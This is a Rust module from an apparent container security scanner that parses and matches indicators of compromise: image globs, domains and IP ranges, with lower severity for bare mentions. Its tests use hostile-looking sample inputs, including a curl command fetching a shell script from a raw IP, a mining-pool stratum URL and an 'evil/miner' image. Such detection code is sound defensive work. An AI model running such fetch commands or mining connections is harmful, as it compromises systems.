//! Indicators of compromise: image globs, domains (and their subdomains) as URL hosts or
//! `host:port`, and IP ranges; used for the built-in campaign indicators and for a
//! policy's `spec.detect.iocs`, with the same context rules as the built-in pool domains
//! (a bare mention weighs one level less than a connection target; blocklists and DNS
//! sinkholes naming an indicator are not findings).

use std::net::IpAddr;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};

use super::builtin::{ImageRef, is_host_char};
use super::error::FieldError;
use super::glob::{Case, Globs};
use crate::api::{IocSpec, Severity};

/// An IP range.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Cidr {
    addr: IpAddr,
    prefix: u8,
}

impl Cidr {
    /// `203.0.113.0/24`, `2001:db8::/32`, or a single address (`/32` or `/128` implied).
    pub(crate) fn parse(s: &str) -> Result<Cidr, String> {
        let s = s.trim();
        let (a, p) = match s.split_once('/') {
            Some((a, p)) => (a, Some(p)),
            None => (s, None),
        };
        let addr: IpAddr = a
            .parse()
            .map_err(|_| format!("{a:?} is not an IP address"))?;
        let max = if addr.is_ipv4() { 32 } else { 128 };
        let prefix = match p {
            None => max,
            Some(p) => p
                .parse::<u8>()
                .ok()
                .filter(|&n| n <= max)
                .ok_or_else(|| format!("prefix length {p:?} is not 0..={max}"))?,
        };
        Ok(Cidr { addr, prefix })
    }

    pub(crate) fn contains(&self, ip: &IpAddr) -> bool {
        match (self.addr, ip) {
            (IpAddr::V4(net), IpAddr::V4(ip)) => {
                let mask = u32::MAX
                    .checked_shl(32 - u32::from(self.prefix))
                    .unwrap_or(0);
                (u32::from(net) & mask) == (u32::from(*ip) & mask)
            }
            (IpAddr::V6(net), IpAddr::V6(ip)) => {
                let mask = u128::MAX
                    .checked_shl(128 - u32::from(self.prefix))
                    .unwrap_or(0);
                (u128::from(net) & mask) == (u128::from(*ip) & mask)
            }
            (IpAddr::V6(net), IpAddr::V4(ip)) => {
                // an IPv4-mapped range (::ffff:a.b.c.d/n)
                net.to_ipv4_mapped().is_some_and(|n| {
                    let p = u32::from(self.prefix.saturating_sub(96));
                    let mask = u32::MAX.checked_shl(32 - p).unwrap_or(0);
                    (u32::from(n) & mask) == (u32::from(*ip) & mask)
                })
            }
            _ => false,
        }
    }
}

impl std::fmt::Display for Cidr {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}/{}", self.addr, self.prefix)
    }
}

/// How a host or address appears in a word.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct HostUse {
    /// Start of the host (after `scheme://` / `user@`), end of the host with its `:port`.
    pub start: usize,
    pub end: usize,
    /// A connection target: in a URL, with a port, or followed by a path.
    pub target: bool,
}

/// Context of a host found at `st..en` of `t`: boundaries and how it is used. `None` when
/// the match is part of a longer name.
pub(crate) fn host_use(t: &str, st: usize, en: usize) -> Option<HostUse> {
    let bytes = t.as_bytes();
    let left = st == 0 || !is_host_char(bytes[st - 1]);
    let right = en == bytes.len()
        || !(is_host_char(bytes[en])
            || (bytes[en] == b'.' && bytes.get(en + 1).is_some_and(|c| c.is_ascii_alphanumeric())));
    if !(left && right) {
        return None;
    }
    let with_port =
        bytes.get(en) == Some(&b':') && bytes.get(en + 1).is_some_and(u8::is_ascii_digit);
    let host_start = t[..st]
        .char_indices()
        .rev()
        .find(|(_, c)| !(c.is_ascii_alphanumeric() || *c == '-' || *c == '.'))
        .map_or(0, |(p, c)| p + c.len_utf8());
    let in_url = t[..host_start].ends_with("://") || t[..host_start].ends_with('@');
    let with_path = bytes.get(en) == Some(&b'/');
    let end = if with_port {
        en + 1
            + bytes[en + 1..]
                .iter()
                .take_while(|c| c.is_ascii_digit())
                .count()
    } else {
        en
    };
    Some(HostUse {
        start: host_start,
        end,
        target: with_port || in_url || with_path,
    })
}

/// IP addresses written in `t` (IPv4 dotted quads; IPv6 in brackets or between
/// delimiters), with their use.
pub(crate) fn find_ips(t: &str) -> Vec<(IpAddr, HostUse)> {
    let b = t.as_bytes();
    let mut out = Vec::new();
    if !b.iter().any(u8::is_ascii_digit) {
        return out;
    }
    let is_part = |c: u8| c.is_ascii_hexdigit() || c == b'.' || c == b':';
    let mut i = 0;
    while i < b.len() {
        if !is_part(b[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < b.len() && is_part(b[i]) {
            i += 1;
        }
        let run = &t[start..i];
        // IPv4, possibly followed by :port
        let v4_len = run
            .bytes()
            .take_while(|c| c.is_ascii_digit() || *c == b'.')
            .count();
        if let Ok(v4) = run[..v4_len]
            .trim_end_matches('.')
            .parse::<std::net::Ipv4Addr>()
            && run[..v4_len].bytes().filter(|c| *c == b'.').count() >= 3
        {
            let left_ok = start == 0 || !b[start - 1].is_ascii_alphanumeric();
            let end = start + run[..v4_len].trim_end_matches('.').len();
            if left_ok {
                let with_port =
                    b.get(end) == Some(&b':') && b.get(end + 1).is_some_and(u8::is_ascii_digit);
                let in_url = t[..start].ends_with("://") || t[..start].ends_with('@');
                let with_path = b.get(end) == Some(&b'/');
                let stop = if with_port {
                    end + 1
                        + b[end + 1..]
                            .iter()
                            .take_while(|c| c.is_ascii_digit())
                            .count()
                } else {
                    end
                };
                out.push((
                    IpAddr::V4(v4),
                    HostUse {
                        start,
                        end: stop,
                        target: with_port || in_url || with_path,
                    },
                ));
            }
            continue;
        }
        if run.bytes().filter(|c| *c == b':').count() >= 2
            && let Ok(v6) = run
                .trim_matches(':')
                .parse::<std::net::Ipv6Addr>()
                .or_else(|_| run.parse())
        {
            let bracketed = start > 0 && b[start - 1] == b'[' && b.get(i) == Some(&b']');
            let with_port = bracketed && b.get(i + 1) == Some(&b':');
            let in_url = bracketed && t[..start - 1].ends_with("://");
            out.push((
                IpAddr::V6(v6),
                HostUse {
                    start,
                    end: i,
                    target: with_port || in_url,
                },
            ));
        }
    }
    out
}

/// One indicator of a policy.
#[derive(Clone, Debug)]
pub(crate) struct PolicyIoc {
    pub id: String,
    pub severity: Severity,
    pub source: Option<String>,
    pub value: String,
}

/// A policy's `spec.detect.iocs`, compiled.
#[derive(Clone, Debug, Default)]
pub(crate) struct IocSet {
    pub entries: Vec<PolicyIoc>,
    images: Option<Globs>,
    image_entry: Vec<u32>,
    domains: Option<AhoCorasick>,
    domain_entry: Vec<u32>,
    ranges: Vec<(Cidr, u32)>,
}

/// A policy indicator found: (entry, severity, where in the word).
pub(crate) type IocMatch = (u32, Severity, HostUse);

fn valid_domain(d: &str) -> bool {
    d.contains('.')
        && !d.starts_with('.')
        && !d.ends_with('.')
        && d.bytes().all(|b| is_host_char(b) || b == b'.')
}

impl IocSet {
    pub(crate) fn compile(spec: &IocSpec, policy: &str, errors: &mut Vec<FieldError>) -> IocSet {
        let mut set = IocSet::default();
        let push = |set: &mut IocSet, list: &str, i: usize, e: &crate::api::IocEntry| {
            set.entries.push(PolicyIoc {
                id: format!("policy/{policy}/iocs.{list}[{i}]"),
                severity: e.severity,
                source: e.source.clone().filter(|s| !s.trim().is_empty()),
                value: e.value.trim().to_string(),
            });
            (set.entries.len() - 1) as u32
        };
        let mut globs = Vec::new();
        for (i, e) in spec.images.iter().enumerate() {
            let at = format!("spec.detect.iocs.images[{i}].value");
            if e.value.trim().is_empty() {
                errors.push(FieldError::new(at, "empty image pattern"));
                continue;
            }
            let k = push(&mut set, "images", i, e);
            globs.push((at, e.value.trim().to_string(), k));
        }
        if !globs.is_empty() {
            let patterns: Vec<&str> = globs.iter().map(|(_, p, _)| p.as_str()).collect();
            match Globs::new(&patterns, Case::Insensitive) {
                Ok(g) => {
                    set.images = Some(g);
                    set.image_entry = globs.iter().map(|(_, _, k)| *k).collect();
                }
                Err(bad) => {
                    for e in bad {
                        errors.push(FieldError::new(
                            globs[e.index].0.clone(),
                            format!("invalid glob: {}", e.message),
                        ));
                    }
                }
            }
        }
        let mut domains = Vec::new();
        for (i, e) in spec.domains.iter().enumerate() {
            let d = e.value.trim().trim_start_matches("*.").to_ascii_lowercase();
            if !valid_domain(&d) {
                errors.push(FieldError::new(
                    format!("spec.detect.iocs.domains[{i}].value"),
                    format!(
                        "{:?} is not a domain name (letters, digits, '-' and at least one '.')",
                        e.value
                    ),
                ));
                continue;
            }
            let k = push(&mut set, "domains", i, e);
            domains.push(d);
            set.domain_entry.push(k);
        }
        if !domains.is_empty() {
            match AhoCorasickBuilder::new()
                .ascii_case_insensitive(true)
                .match_kind(MatchKind::Standard)
                .build(&domains)
            {
                Ok(ac) => set.domains = Some(ac),
                Err(e) => errors.push(FieldError::new(
                    "spec.detect.iocs.domains",
                    format!("cannot build matcher: {e}"),
                )),
            }
        }
        for (i, e) in spec.ip_ranges.iter().enumerate() {
            match Cidr::parse(&e.value) {
                Ok(c) => {
                    let k = push(&mut set, "ipRanges", i, e);
                    set.ranges.push((c, k));
                }
                Err(msg) => errors.push(FieldError::new(
                    format!("spec.detect.iocs.ipRanges[{i}].value"),
                    msg,
                )),
            }
        }
        set
    }

    pub(crate) fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    pub(crate) fn has_words(&self) -> bool {
        self.domains.is_some() || !self.ranges.is_empty()
    }

    /// Entries whose image glob matches the image reference (as written, without its tag
    /// or digest, and with Docker Hub's implicit `docker.io/` and `library/`).
    pub(crate) fn image_matches(&self, image: &str) -> Vec<u32> {
        let Some(g) = &self.images else {
            return Vec::new();
        };
        let mut out: Vec<u32> = Vec::new();
        for cand in image_candidates(image) {
            for k in g.matches(&cand) {
                let e = self.image_entry[k];
                if !out.contains(&e) {
                    out.push(e);
                }
            }
        }
        out
    }

    /// Domain and IP indicators in a word. A bare mention weighs one level less.
    pub(crate) fn word_matches(&self, t: &str) -> Vec<IocMatch> {
        let mut out = Vec::new();
        if let Some(ac) = &self.domains {
            for m in ac.find_overlapping_iter(t) {
                if let Some(u) = host_use(t, m.start(), m.end()) {
                    let e = self.domain_entry[m.pattern().as_usize()];
                    out.push((e, weigh(self.entries[e as usize].severity, u.target), u));
                }
            }
        }
        if !self.ranges.is_empty() {
            for (ip, u) in find_ips(t) {
                for (c, e) in &self.ranges {
                    if c.contains(&ip) {
                        out.push((*e, weigh(self.entries[*e as usize].severity, u.target), u));
                    }
                }
            }
        }
        out
    }
}

/// A connection target keeps the indicator's severity; a bare mention is one level lower.
pub(crate) fn weigh(s: Severity, target: bool) -> Severity {
    if target {
        return s;
    }
    match s {
        Severity::Critical => Severity::High,
        Severity::High => Severity::Medium,
        Severity::Medium | Severity::Low => Severity::Low,
    }
}

/// Spellings of an image reference a glob is matched against.
pub(crate) fn image_candidates(image: &str) -> Vec<String> {
    let raw = image.trim();
    let no_digest = raw.split('@').next().unwrap_or(raw);
    let r = ImageRef::parse(raw);
    let bare = {
        let last_slash = no_digest.rfind('/').map_or(0, |p| p + 1);
        match no_digest[last_slash..].rfind(':') {
            Some(c) => &no_digest[..last_slash + c],
            None => no_digest,
        }
    };
    let mut out = vec![raw.to_string(), bare.to_string()];
    if r.registry.is_none() {
        let path = if r.components.len() == 1 {
            format!("library/{}", r.components[0])
        } else {
            r.components.join("/")
        };
        let tail = &raw[bare.len().min(raw.len())..];
        out.push(format!("docker.io/{path}{tail}"));
        out.push(format!("docker.io/{path}"));
    }
    out.dedup();
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cidrs() {
        let c = Cidr::parse("203.0.113.0/24").unwrap();
        assert!(c.contains(&"203.0.113.77".parse().unwrap()));
        assert!(!c.contains(&"203.0.114.1".parse().unwrap()));
        assert!(
            Cidr::parse("198.51.100.7")
                .unwrap()
                .contains(&"198.51.100.7".parse().unwrap())
        );
        assert!(
            Cidr::parse("0.0.0.0/0")
                .unwrap()
                .contains(&"8.8.8.8".parse().unwrap())
        );
        assert!(
            Cidr::parse("2001:db8::/32")
                .unwrap()
                .contains(&"2001:db8:1::5".parse().unwrap())
        );
        assert!(Cidr::parse("10.0.0.0/33").is_err());
        assert!(Cidr::parse("10.0.0/8").is_err());
    }

    #[test]
    fn ips_in_words() {
        let f = find_ips("curl -s http://195.3.146.118/unk.sh");
        assert_eq!(f.len(), 1);
        assert!(f[0].1.target);
        let f = find_ips("10.1.2.3:3333 and 1.2.3.4 v1.2.3.4.5");
        assert_eq!(
            f.iter()
                .map(|(ip, u)| (ip.to_string(), u.target))
                .collect::<Vec<_>>(),
            vec![
                ("10.1.2.3".to_string(), true),
                ("1.2.3.4".to_string(), false)
            ]
        );
        let f = find_ips("stratum+tcp://[2001:db8::5]:3333");
        assert_eq!(f.len(), 1);
        assert!(f[0].1.target);
        assert!(find_ips("version 1.2.3").is_empty());
    }

    #[test]
    fn hosts_in_words() {
        let t = "https://x.evil.example/a";
        let st = t.find("evil.example").unwrap();
        assert_eq!(
            host_use(t, st, st + 12),
            Some(HostUse {
                start: 8,
                end: 22,
                target: true
            })
        );
        let t = "notevil.example";
        assert_eq!(host_use(t, 3, 15), None);
        let t = "evil.example.org";
        assert_eq!(host_use(t, 0, 12), None);
        let t = "see evil.example";
        assert!(!host_use(t, 4, 16).unwrap().target);
    }

    #[test]
    fn image_spellings() {
        assert!(image_candidates("evil/miner:1.2").contains(&"docker.io/evil/miner".to_string()));
        assert!(image_candidates("nginx").contains(&"docker.io/library/nginx".to_string()));
        assert!(image_candidates("ghcr.io/a/b:1@sha256:ab").contains(&"ghcr.io/a/b".to_string()));
        assert!(image_candidates("localhost:5000/a").contains(&"localhost:5000/a".to_string()));
    }
}
